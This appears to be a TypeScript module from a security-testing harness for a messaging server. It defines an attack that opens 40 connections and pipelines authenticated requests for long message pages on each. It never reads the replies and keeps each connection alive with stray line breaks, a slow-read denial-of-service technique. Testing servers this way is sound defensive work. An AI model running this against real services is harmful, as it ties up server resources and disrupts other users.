import { loop, pause, type Attack } from '../attackers/attack.ts';
import { openRawConnection } from '../attackers/raw-connection.ts';
import { groupOfLongMessages } from './long-messages.ts';

const connections = 40;
const requestsPerConnection = 4;

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  finding: 'H2',
  about: `Requests pages of long messages on ${connections} connections, ${requestsPerConnection} pipelined on each, and reads no answer.`,
  prepare: groupOfLongMessages,
  async run(attacker, context) {
    const id = await groupOfLongMessages(attacker);
    const { host, port } = attacker.target;
    const path = `/v1/conversations/${id}/messages?limit=200`;
    const request = `GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nAuthorization: Bearer ${attacker.token}\r\n\r\n`;
    await loop(context, { concurrency: connections, pauseMs: 1_000 }, async () => {
      const connection = openRawConnection(attacker.target, attacker.home);
      connection.stopReading();
      connection.send(request.repeat(requestsPerConnection));
      context.count('connection opened');
      while (!connection.isClosed() && !context.signal.aborted) {
        await pause(5_000, context.signal);
        // Fails once the server has closed the connection; until then it is the beginning of another request.
        connection.send('\r\n');
      }
      if (connection.isClosed()) context.count('closed by the server');
      connection.close();
    });
  },
};
